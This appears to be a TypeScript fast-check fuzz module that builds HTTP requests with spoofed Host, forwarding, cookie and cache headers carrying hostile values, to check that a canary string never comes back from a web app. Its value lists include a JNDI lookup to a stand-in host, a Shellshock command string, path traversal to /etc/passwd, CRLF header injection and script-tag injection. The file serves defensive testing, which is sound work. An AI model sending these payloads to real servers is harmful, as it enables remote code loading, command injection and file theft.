import fc from 'fast-check';
import { list, one } from './values.ts';

/** What must never come back, whatever header it was sent in. */
export const CANARY = 'canary-c4a9';
const EVIL = `${CANARY}.example`;

const HOSTS = [
  EVIL,
  `${EVIL}:80`,
  `${EVIL}:99999`,
  `user@${EVIL}`,
  `${EVIL}/path`,
  `${EVIL}\\@localhost`,
  `"><script>${CANARY}</script>`,
  `${EVIL}, localhost`,
  `[::1]${CANARY}`,
  `\xc3\xa9${CANARY}.example`,
  `xn--${CANARY}`,
  `${EVIL}.`,
  `localhost#${CANARY}`,
  `\${jndi:ldap://${EVIL}/x}`,
  '',
  ' ',
  '127.0.0.1',
];

const NAMES = `Host X-Forwarded-Host X-Forwarded-Proto X-Forwarded-For X-Forwarded-Port X-Forwarded-Prefix Forwarded
  X-Original-URL X-Rewrite-URL X-Host X-Http-Method-Override X-Method-Override X-HTTP-Host-Override Origin Referer Cookie
  Accept Accept-Encoding Accept-Language Range If-Range If-None-Match If-Modified-Since Authorization User-Agent
  Cache-Control Pragma Via TE Trailer Upgrade Connection Keep-Alive Sec-Fetch-Site Sec-Fetch-Dest Content-Type
  Content-Security-Policy X-Nonce Next-Url Next-Action Next-Router-State-Tree RSC X-Nextjs-Data X-Middleware-Rewrite
  X-Invoke-Path X-Matched-Path X-Real-Ip CF-Connecting-IP True-Client-IP Purpose __proto__ constructor x-1.~!#$%&'*+^_|`;

const VALUES = [
  ...HOSTS,
  CANARY,
  `'nonce-${CANARY}'`,
  `script-src 'nonce-Y2FuYXJ5LWM0YTk='`,
  `text/html;q=${'9'.repeat(400)}`,
  '*/*;q=nope, ,;,',
  'gzip;q=0, identity;q=0, br;q=-1',
  'bytes=0-0,1-1,2-2,-1,999999999999999999999-',
  `W/"${CANARY}", *`,
  'Thu, 99 Foo 99999 99:99:99 GMT',
  `for="[::1]${CANARY}";host=${EVIL};proto=javascript`,
  `127.0.0.1, ${EVIL}, 10.0.0.1`,
  `theme=dark"><script>${CANARY}</script>; images=on%00; =; ;;;`,
  `__prerender_bypass=${CANARY}; __next_preview_data=${CANARY}; NEXT_LOCALE=../..`,
  `theme=${'x'.repeat(8000)}`,
  `Bearer ${CANARY}`,
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '() { :;}; echo canary',
  '\x80\x81\xff\xfe',
  '\t \t',
  '%00%0d%0aX-Injected: 1',
  'DELETE',
  'close, keep-alive, Upgrade, HTTP2-Settings',
];

const name = one(...list(NAMES));
const header = fc.tuple(name, one(...VALUES)).map(([key, value]) => `${key}: ${value}\r\n`);

/** Some headers, with strange values, after a plain Host or instead of it. */
export const HEADERS = fc
  .tuple(one(`Host: ${EVIL}\r\n`, ...HOSTS.map((host) => `Host: ${host}\r\n`)), fc.array(header, { maxLength: 6 }))
  .map(([host, headers]) => host + headers.filter((each) => !/^(Host|TE|Upgrade|Connection):/i.test(each)).join(''));

/** Targets of every kind of answer. */
export const PLAIN_TARGETS =
  list(`/ /golden /golden/images?_size=1 /golden/images.json?_size=1 /golden/images.csv?_size=1
  /golden/images/5 /golden/images/5.json /golden/-/query.json?sql=select+1 /-/about /nope /nope.json /golden/images/
  /golden/images?_sort=nope /golden?sql=select+1 /-/healthz /-/readyz /robots.txt /-/keep?theme=dark&back=/
  /laion-sample/-/name?q=claude+monet /-/openapi.json`);
